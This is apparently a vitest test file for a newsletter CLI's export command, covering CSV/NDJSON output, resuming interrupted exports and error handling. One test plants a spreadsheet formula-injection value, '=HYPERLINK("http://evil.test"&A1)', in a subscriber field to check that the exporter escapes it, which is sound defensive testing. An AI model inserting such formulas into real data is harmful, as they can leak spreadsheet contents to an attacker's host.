import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { createClient } from '@newsletter-kit/core';
import { publicationId } from '@newsletter-kit/sandbox';
import { test as base, type SandboxOnPort } from '@newsletter-kit/sandbox/vitest';
import { expect } from 'vitest';
import { events, run, start } from './command.ts';
import { waitUntil } from '../../../test/support/waits.ts';
import { scratchFolder } from '../../../test/support/scratch-folder.ts';

const test = base.extend({ sandboxOptions: { seed: 'demo' } });

interface Exported {
  readonly id: string;
  readonly email: string;
}

/** Every subscription as the API lists it. */
async function allSubscriptions(sandbox: SandboxOnPort): Promise<readonly Exported[]> {
  const all: Exported[] = [];
  for await (const each of createClient(sandbox.clientOptions).subscriptions.list({ limit: 100, direction: 'asc' }))
    all.push({ ...each, email: String(each.email) });
  return all;
}

const ids = (subscriptions: readonly Exported[]): string[] => subscriptions.map(({ id }) => id).toSorted();
const ndjson = (text: string): Exported[] =>
  text
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as Exported);
/** Cells, for values without quotes. */
const cells = (line: string | undefined): string[] => (line ?? '').split(',');

test('writes every subscription once, as the API returns it', async ({ sandboxOnPort: sandbox }) => {
  const path = join(scratchFolder(), 'all.ndjson');
  const { code, stdout, stderr } = await run(
    ['export', path, '--expand', 'custom_fields,tags', '--expand', 'stats'],
    sandbox.env,
  );
  expect({ code, stdout }).toEqual({ code: 0, stdout: '' });
  expect(stderr).toMatch(new RegExp(`Exported 300 subscriptions to ${path} \\(.+ a (second|minute)\\)\\.\n$`));
  const written = ndjson(readFileSync(path, 'utf8'));
  expect(ids(written)).toEqual(ids(await allSubscriptions(sandbox)));
  expect(written[0]).toHaveProperty('custom_fields');
  expect(written[0]).toHaveProperty('stats.open_rate');
  expect(statSync(path).mode & 0o777).toBe(0o600); // addresses are in it
  expect(readdirSync(join(path, '..'))).toEqual(['all.ndjson']);
});

test('writes CSV with a column for each field and each custom field, to stdout where no file is named', async ({
  sandboxOnPort: sandbox,
}) => {
  const { code, stdout } = await run(
    ['export', '--expand', 'custom_fields,stats', '--where', 'status=active'],
    sandbox.env,
  );
  expect(code).toBe(0);
  const lines = stdout.trimEnd().split('\r\n');
  const heading = cells(lines[0]);
  expect(heading.slice(0, 3)).toEqual(['id', 'email', 'status']);
  const fields: string[] = [];
  for await (const { display } of createClient(sandbox.clientOptions).customFields.list())
    fields.push(`custom:${display}`);
  expect(fields.length).toBeGreaterThan(3);
  expect(heading).toEqual(expect.arrayContaining(['created', 'stats.open_rate', ...fields]));
  expect(lines.length).toBeGreaterThan(100);
  for (const line of lines.slice(1)) expect(cells(line)[2]).toBe('active');
  expect(lines[1]).toMatch(/,\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.000Z,/);
});

test('escapes cells that a spreadsheet would run as formulas, except with --raw', async ({
  sandboxOnPort: sandbox,
}) => {
  const client = createClient(sandbox.clientOptions);
  const evil = '=HYPERLINK("http://evil.test"&A1)';
  await client.subscriptions.create({ email: 'mallory@example.com', utm_source: evil, utm_campaign: 'a, "b"\nc' });
  const line = async (...args: string[]) =>
    (await run(['export', ...args], sandbox.env)).stdout.split('\r\n').find((each) => each.includes('mallory'));
  expect(await line()).toContain(`"'=HYPERLINK(""http://evil.test""&A1)"`);
  expect(await line()).toContain('"a, ""b""\nc"');
  expect(await line('--raw')).toContain(`"=HYPERLINK(""http://evil.test""&A1)"`);
  expect(await line('--format', 'ndjson')).toContain(JSON.stringify(evil));
});

test('continues an interrupted export, so that the file has every subscription once', async ({
  sandboxOnPort: sandbox,
}) => {
  const path = join(scratchFolder(), 'all.csv');
  sandbox.faults.add({ match: 'subscriptions.list', effect: { latency: 400 } });
  const first = start(['export', path], sandbox.env);
  await waitUntil('a page', () => /Exported 100 subscriptions …/.exec(first.stderr()));
  first.kill('SIGINT');
  const stopped = await first.ended;
  expect(stopped).toMatchObject({
    code: 3,
    stderr: expect.stringMatching(/Interrupted after \d+ subscriptions\. The same command continues from there/),
  });
  expect(existsSync(path)).toBe(false);

  // Bytes after the stored position, as a power cut leaves them, are overwritten and not repeated.
  writeFileSync(`${path}.part`, 'half a li', { flag: 'a' });
  const second = await run(['export', path], sandbox.env);
  expect(second).toMatchObject({
    code: 0,
    stderr: expect.stringMatching(/^Continuing after \d+ subscriptions of an earlier run\.\n/),
  });
  const written = readFileSync(path, 'utf8').trimEnd().split('\r\n').slice(1);
  expect(written.map((line) => cells(line)[0]).toSorted()).toEqual(ids(await allSubscriptions(sandbox)));
  expect(readdirSync(join(path, '..'))).toEqual(['all.csv']);
});

test('starts over for another export, and after the service refuses the cursor', async ({ sandboxOnPort: sandbox }) => {
  const path = join(scratchFolder(), 'all.ndjson');
  sandbox.faults.add({ match: 'subscriptions.list', effect: { latency: 300 }, times: 4 });
  const first = start(['export', path], sandbox.env);
  await waitUntil('a page', () => /Exported 100/.exec(first.stderr()));
  first.kill('SIGINT');
  await first.ended;

  const other = await run(['export', path, '--where', 'status=active'], sandbox.env);
  expect(other.stderr).not.toContain('Continuing');
  expect(ndjson(readFileSync(path, 'utf8')).length).toBeLessThan(300);

  const description = JSON.stringify([
    `${sandbox.address}/v2`,
    sandbox.env['NEWSLETTER_PUBLICATION_ID'],
    { limit: 100, order_by: 'created', direction: 'asc', expand: [] },
    { where: [] },
    'ndjson',
    '',
    false,
  ]);
  const position = { description, cursor: 'no-such-cursor', bytes: 4, subscriptions: 1 };
  writeFileSync(`${path}.part.json`, JSON.stringify(position));
  writeFileSync(`${path}.part`, '{}\n\n');
  const restarted = await run(['export', path], sandbox.env);
  expect(restarted).toMatchObject({ code: 0, stderr: expect.stringContaining('starts over') });
  expect(ids(ndjson(readFileSync(path, 'utf8')))).toEqual(ids(await allSubscriptions(sandbox)));
});

test('cancels the call in flight with the first Ctrl-C', async ({ sandboxOnPort: sandbox }) => {
  sandbox.faults.add({ match: 'subscriptions.list', effect: { latency: 20_000 } });
  const slow = start(['export', join(scratchFolder(), 'all.csv')], sandbox.env);
  await waitUntil('a call in flight', () => sandbox.faults.list().some(({ fired }) => fired > 0));
  slow.kill('SIGINT');
  expect(await slow.ended).toMatchObject({ code: 3, stderr: expect.stringContaining('nothing was written') });
});

test('reports progress as JSON', async ({ sandboxOnPort: sandbox }) => {
  const path = join(scratchFolder(), 'all.csv');
  const { code, stdout, stderr } = await run(['export', path, '--json'], sandbox.env);
  expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
  const reported = events(stdout);
  expect(reported[0]).toMatchObject({ type: 'progress', subscriptions: 100 });
  expect(reported.at(-1)).toEqual({ type: 'exported', subscriptions: 300, file: path });
});

test('rewrites a progress line on a terminal, and not in CI', async ({ sandboxOnPort: sandbox }) => {
  const path = join(scratchFolder(), 'all.csv');
  // `script` gives the command a terminal.
  const onTerminal = 'script -qec "$(printf "\'%s\' " "$@")" /dev/null';
  const env = { ...sandbox.env, TERM: 'xterm' };
  const live = await start(['export', path], env, onTerminal).ended;
  expect(live.stdout).toContain('\u001B[2K');
  const ci = await start(['export', path], { ...env, CI: 'true' }, onTerminal).ended;
  expect(ci.stdout).toContain('Exported 300 subscriptions to');
  expect(ci.stdout).not.toContain('\u001B[');
});

test('ends without an error when the reader of stdout closes the pipe', async ({ sandboxOnPort: sandbox }) => {
  const { stdout, stderr } = await start(
    ['export', '--expand', 'stats'],
    sandbox.env,
    '{ "$@"; echo "code $?" >&2; } | head -n 2',
  ).ended;
  expect(stdout).toMatch(/^id,email,/);
  expect(stderr).toMatch(/code 0\n$/);
  expect(stderr).not.toContain('EPIPE');
});

test('reports usage errors and leaves no partial file', async ({ sandboxOnPort: sandbox }) => {
  const missing = join(scratchFolder(), 'no', 'such', 'folder.csv');
  expect(await run(['export', missing], sandbox.env)).toMatchObject({
    code: 66,
    stderr: expect.stringContaining('ENOENT'),
  });
  const path = join(scratchFolder(), 'all.csv');
  writeFileSync(path, 'yesterday');
  const fault = sandbox.faults.add({ match: 'subscriptions.list', effect: { status: 403 } });
  expect((await run(['export', path], sandbox.env)).code).toBe(77);
  expect(readFileSync(path, 'utf8')).toBe('yesterday');
  expect(readdirSync(join(path, '..'))).toEqual(['all.csv']);

  // After a later failure the export continues too.
  sandbox.faults.remove(fault.id);
  sandbox.faults.add({ match: 'subscriptions.list', effect: { status: 403 }, nth: 3 });
  expect((await run(['export', path], sandbox.env)).code).toBe(77);
  const again = await run(['export', path], sandbox.env);
  expect(again).toMatchObject({ code: 0, stderr: expect.stringContaining('Continuing after 200 subscriptions') });
  expect(readFileSync(path, 'utf8').trimEnd().split('\r\n')).toHaveLength(301);
});

test('fails and writes no file for a list whose cursors never end or are missing', async () => {
  const subscription = (id: string) => ({ id, email: `${id}@example.com`, status: 'active', created: 1 });
  const lists: readonly (readonly [text: string, next: Readonly<Record<string, string | null>>])[] = [
    ['the cursors of the list go round in a circle', { '': 'a', a: 'b', b: 'c', c: 'a' }],
    ['"has_more" says that the list goes on, but there is no "next_cursor"', { '': 'a', a: null }],
  ];
  for (const [text, next] of lists) {
    const server = createServer((request, response) => {
      const cursor = new URL(request.url ?? '/', 'http://api.test').searchParams.get('cursor') ?? '';
      const next_cursor = next[cursor];
      response.end(JSON.stringify({ data: [subscription(`sub_${cursor}`)], limit: 1, has_more: true, next_cursor }));
    });
    await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
    const { port } = server.address() as AddressInfo;
    const env = {
      NEWSLETTER_API_URL: `http://127.0.0.1:${port}/v2`,
      NEWSLETTER_API_KEY: 'k',
      NEWSLETTER_PUBLICATION_ID: publicationId,
    };
    const path = join(scratchFolder(), 'all.ndjson');
    const toFile = await run(['export', path], env);
    const toStdout = await run(['export', '--format', 'ndjson'], env);
    server.closeAllConnections();
    server.close();
    for (const { code, stderr } of [toFile, toStdout])
      expect({ code, stderr }).toEqual({ code: 1, stderr: expect.stringContaining(text) });
    expect(existsSync(path), text).toBe(false);
  }
});
